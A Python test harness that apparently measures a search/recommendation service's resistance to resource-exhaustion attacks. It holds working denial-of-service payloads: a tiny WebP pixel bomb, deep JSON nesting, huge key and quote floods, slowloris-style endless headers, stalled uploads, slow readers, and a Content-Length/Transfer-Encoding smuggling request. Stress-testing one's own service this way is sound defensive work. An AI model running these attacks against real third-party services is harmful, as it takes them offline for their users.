"""Attacks by single requests and connections. They need no key if the service has none."""

from __future__ import annotations

import base64
import json
import resource
import socket
import threading
import time
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

from attacks.health import Health

# a WebP of 34 bytes that is 7000 × 7000 pixels
SMALL = bytes.fromhex("524946461a000000574542505650384c0e0000002f57dbd506071011fd0f4444ff03")
PATIENCE = 60.0  # seconds for one answer
Sockets = list[socket.socket]


@dataclass(frozen=True)
class Outcome:
    """What an attack did.

    Attributes:
        health: 99th percentile of ``GET /healthz`` during the attack, in seconds.
        seconds: of the whole attack.
        statuses: HTTP statuses of the responses, "closed" for no response.
        memory: peak growth of the service's processes, in bytes.
    """

    name: str
    health: float
    seconds: float
    statuses: tuple[str, ...]
    memory: int


@dataclass(frozen=True)
class Attack:
    """Args:
    run: host and port → statuses.
    before: its effect before there were limits, and who measured it.
    """

    name: str
    run: Callable[[str, int], Iterable[str]]
    before: str


def measure(attack: Attack, host: str, port: int, pid: int) -> Outcome:
    """Run an attack against a service whose first process is ``pid``."""
    start, most, over = memory_of(pid), [0], threading.Event()

    def watch() -> None:
        while not over.wait(0.1):
            most[0] = max(most[0], memory_of(pid) - start)

    watcher = threading.Thread(target=watch)
    began = time.perf_counter()
    watcher.start()
    try:
        with Health(host, port) as health:
            statuses = tuple(sorted(set(attack.run(host, port))))
            seconds = time.perf_counter() - began
            time.sleep(1.0)  # work that goes on after the client has gone
    finally:
        over.set()
        watcher.join()
    return Outcome(attack.name, health.p99, seconds, statuses, most[0])


def memory_of(pid: int) -> int:
    """Bytes of a process and all that it started; a page that several share counts once."""
    pids, size = [pid], 0
    while pids:
        process = Path(f"/proc/{pids.pop()}")
        try:
            for task in (process / "task").iterdir():
                pids += [int(child) for child in (task / "children").read_text().split()]
            lines = (process / "smaps_rollup").read_text().splitlines()
        except OSError:  # it ended meanwhile
            continue
        size += sum(1024 * int(line.split()[1]) for line in lines if line.startswith("Pss:"))
    return size


# --- The wire ---------------------------------------------------------------------------------------------------------


def connect(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=PATIENCE)


def head(method: str, path: str, host: str, *headers: str) -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", f"Host: {host}", *headers, "", ""]).encode()


def status_of(connection: socket.socket) -> str:
    """The status of the next answer."""
    try:
        line = connection.recv(64)
    except OSError:
        return "closed"
    return line.split(b" ")[1].decode() if line.startswith(b"HTTP/") else "closed"


def send(host: str, port: int, method: str, path: str, body: bytes = b"", *headers: str) -> str:
    """The status of one request."""
    kind = (
        ()
        if any(header.lower().startswith("content-type") for header in headers)
        else ("Content-Type: application/json",)
    )
    with connect(host, port) as connection:
        try:
            connection.sendall(head(method, path, host, f"Content-Length: {len(body)}", *kind, *headers))
            for start in range(0, len(body), 1 << 16):
                connection.sendall(body[start : start + (1 << 16)])
        except OSError:
            pass  # the server refused the body early; the response may have arrived
        return status_of(connection)


def together(count: int, call: Callable[[], str]) -> list[str]:
    with ThreadPoolExecutor(count) as pool:
        return [future.result() for future in [pool.submit(call) for _ in range(count)]]


# --- Attacks ----------------------------------------------------------------------------------------------------------


def many_spaces(host: str, port: int) -> Iterable[str]:
    return together(6, lambda: send(host, port, "GET", "/v1/search?where=" + "%20" * 1_000))


def unknown_names(host: str, port: int) -> Iterable[str]:
    body = b"{" + b",".join(b'"%07d":1' % n for n in range(2_000_000)) + b"}"
    return [send(host, port, "POST", "/v1/search", body), send(host, port, "POST", "/v1/recommend", body)]


def unknown_names_within(host: str, port: int) -> Iterable[str]:
    body = b"{" + b",".join(b'"%07d":1' % n for n in range(45_000)) + b"}"
    return together(8, lambda: send(host, port, "POST", "/v1/recommend", body))


def nested(host: str, port: int) -> Iterable[str]:
    return [send(host, port, "POST", path, b"[" * 3_000_000) for path in ("/v1/search", "/v1/events", "/v1/predict")]


def escaped_quotes(host: str, port: int) -> Iterable[str]:
    body = b'{"words":"' + b'\\"' * 15_000_000 + b'"}'
    return together(4, lambda: send(host, port, "POST", "/v1/search", body))


def small_pictures(host: str, port: int) -> Iterable[str]:
    picture = base64.b64encode(SMALL).decode()
    body = json.dumps({"rows": [{"items.images": picture} for _ in range(12)]}).encode()
    return [send(host, port, "POST", "/v1/predict", body)]


def small_pictures_and_away(host: str, port: int) -> Iterable[str]:
    """Send requests with three pictures each, below the limit of pixels, and hang up before the response."""
    picture = base64.b64encode(SMALL).decode()
    body = json.dumps({"rows": [{"items.images": picture} for _ in range(3)]}).encode()
    for _ in range(8):
        with connect(host, port) as connection:
            connection.sendall(
                head("POST", "/v1/predict", host, "Content-Type: application/json", f"Content-Length: {len(body)}")
            )
            connection.sendall(body)
            time.sleep(0.2)
    yield send(host, port, "GET", "/v1/search?words=teapot")


def large_pictures(host: str, port: int) -> Iterable[str]:
    body = json.dumps({"picture": base64.b64encode(b"\xff\xd8\xff" + b"x" * 19_000_000).decode()}).encode()
    return together(8, lambda: send(host, port, "POST", "/v1/search", body))


def parts_of_a_form(host: str, port: int) -> Iterable[str]:
    part = b'--b\r\nContent-Disposition: form-data; name="photo"; filename="a"\r\n\r\n'
    body = part + b"\r\n--a" * 6_000_000 + b"\r\n--b--\r\n"
    kind = "Content-Type: multipart/form-data; boundary=b"
    return together(3, lambda: send(host, port, "POST", "/v1/search/photo", body, kind))


def stalled(host: str, port: int, path: str) -> list[str]:
    """Send 30 bodies of 31 MB that stop before their end."""
    begun: Sockets = []
    part = b"x" * 1_000_000

    def begin() -> str:
        connection = connect(host, port)
        begun.append(connection)
        connection.settimeout(2.0)
        try:
            connection.sendall(head("POST", path, host, "Content-Type: application/json", "Content-Length: 31000000"))
            for _ in range(30):
                connection.sendall(part)
        except OSError:
            return "stopped"
        return "stalled"

    together(30, begin)
    time.sleep(3.0)
    statuses = []
    for connection in begun:
        connection.settimeout(0.05)
        statuses.append(status_of(connection))
        connection.close()
    return statuses


def stalled_at_health(host: str, port: int) -> Iterable[str]:
    return stalled(host, port, "/healthz")


def stalled_at_search(host: str, port: int) -> Iterable[str]:
    return stalled(host, port, "/v1/search")


def many_values(host: str, port: int) -> Iterable[str]:
    where = ["brand=" + "|".join(f"v{n}" for n in range(100_000)) for _ in range(50)]
    return [send(host, port, "POST", "/v1/search", json.dumps({"words": "a", "where": where}).encode())]


def endless_headers(host: str, port: int) -> Iterable[str]:
    """Send 200 requests whose headers never end, one byte at a time. Returns whether the server closed them."""
    begun = [connect(host, port) for _ in range(200)]
    for connection in begun:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX: ")
    end = time.monotonic() + 30.0
    living = begun
    while living and time.monotonic() < end:
        time.sleep(1.0)
        living = [connection for connection in living if _sent(connection)]
    for connection in begun:
        connection.close()
    return ["open" if living else "closed"]


def _sent(connection: socket.socket) -> bool:
    try:
        connection.sendall(b"x")
    except OSError:
        return False
    return True


def idle_connections(host: str, port: int) -> Iterable[str]:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(2_000, hard)), hard))
    begun = [connect(host, port) for _ in range(1_000)]
    time.sleep(2.0)
    status = send(host, port, "GET", "/v1/search?words=teapot")
    for connection in begun:
        connection.close()
    return [status]


def slow_readers(host: str, port: int) -> Iterable[str]:
    """Read a long response with 100 clients, one byte per second."""
    begun = []
    for _ in range(100):
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.settimeout(PATIENCE)
        connection.connect((host, port))
        connection.sendall(head("GET", "/openapi.json", host))
        begun.append(connection)
    for _ in range(5):
        time.sleep(1.0)
        for connection in begun:
            connection.recv(1)
    status = send(host, port, "GET", "/v1/search?words=teapot")
    for connection in begun:
        connection.close()
    return [status]


def half_uploads(host: str, port: int) -> Iterable[str]:
    """Hang up in the middle of a body, 100 times."""
    for _ in range(100):
        with connect(host, port) as connection:
            connection.sendall(
                head("POST", "/v1/search", host, "Content-Type: application/json", "Content-Length: 4000000")
            )
            connection.sendall(b'{"words": "' + b"x" * 500_000)
    yield send(host, port, "GET", "/v1/search?words=teapot")


def two_lengths(host: str, port: int) -> Iterable[str]:
    with connect(host, port) as connection:
        connection.sendall(head("POST", "/v1/search", host, "Content-Length: 4", "Transfer-Encoding: chunked"))
        connection.sendall(b"0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        yield status_of(connection)


def other_site(host: str, port: int) -> Iterable[str]:
    """Send the request that a browser sends for an ``<img>`` on another site."""
    headers = ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image")
    return [send(host, port, "GET", "/v1/search?words=teapot", b"", *headers) for _ in range(50)]


# before: at commit 5c5f3ca, measured by these scripts on two cores at a load of 5 to 9, or as it was reported
ATTACKS = (
    Attack(
        "1,000 spaces in a condition, six at once",
        many_spaces,
        "health 5.9 s, 22 s (reported: 6 s each, all else waits)",
    ),
    Attack("24 MB of unknown names", unknown_names, "health 38 s, 62 s for two, +2.7 GB (reported: 26 s, 3.4 GB)"),
    Attack("eight bodies of 45,000 unknown names", unknown_names_within, "health 2.4 s, +244 MB"),
    Attack("lists nested three million deep", nested, "health 22 ms"),
    Attack("four bodies of 15 million escaped quotes", escaped_quotes, "health 0.83 s"),
    Attack(
        "12 rows of 34-byte pictures of 7000 × 7000", small_pictures, "answered after 29 s, +1.2 GB (reported: 35 s)"
    ),
    Attack(
        "pictures of 7000 × 7000 whose sender hangs up", small_pictures_and_away, "the next search: none within 60 s"
    ),
    Attack("eight photos of 19 MB at once", large_pictures, "health 1.2 s, +253 MB"),
    Attack("three forms of 30 MB of false boundaries", parts_of_a_form, "health 0.38 s"),
    Attack("30 stalled uploads of 31 MB to /healthz", stalled_at_health, "health 0.34 s, +870 MB (reported: +0.9 GB)"),
    Attack("30 stalled uploads of 31 MB to /v1/search", stalled_at_search, "health 2.2 s, +1.2 GB"),
    Attack("50 conditions of 100,000 values", many_values, "health 12 s, +1.2 GB (reported: 17 s)"),
    Attack("200 requests whose headers never end", endless_headers, "open after 30 s"),
    Attack("1,000 idle connections", idle_connections, "health 89 ms with 800"),
    Attack("100 clients that read a byte a second", slow_readers, "health 12 ms; never closed"),
    Attack("100 uploads that stop in the middle", half_uploads, "health 0.18 to 0.2 s, +79 MB"),
    Attack("Transfer-Encoding beside Content-Length", two_lengths, "read as chunked (422 of its body)"),
    Attack("50 reads for a page of another site", other_site, "answered with 200"),
)
